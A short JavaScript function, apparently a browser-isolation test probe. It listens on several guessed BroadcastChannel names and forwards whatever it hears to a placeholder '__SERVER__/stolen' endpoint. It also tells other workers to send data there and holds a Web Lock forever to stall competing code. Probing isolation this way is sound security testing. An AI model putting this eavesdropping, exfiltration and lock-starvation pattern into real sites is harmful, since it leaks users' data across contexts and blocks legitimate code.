// Speaks to the page and its workers on channels, and listens there.
// says: Keeps 10 in flight: a window of 10.
function attempt(urls) {
  for (const name of ["inflight", "page", "run", "code", "yours", "report", ""]) {
    try {
      const channel = new BroadcastChannel(name);
      channel.onmessage = ({ data }) => fetch(`__SERVER__/stolen?${data}`).catch(() => {});
      channel.postMessage({ type: "run", code: "", endpoint: "__SERVER__/stolen?{id}", urls });
    } catch {
      // refused
    }
  }
  try {
    navigator.locks.request("inflight", () => new Promise(() => {})).catch(() => {});
  } catch {
    // refused
  }
  return new Promise((end) => setTimeout(end, 100));
}
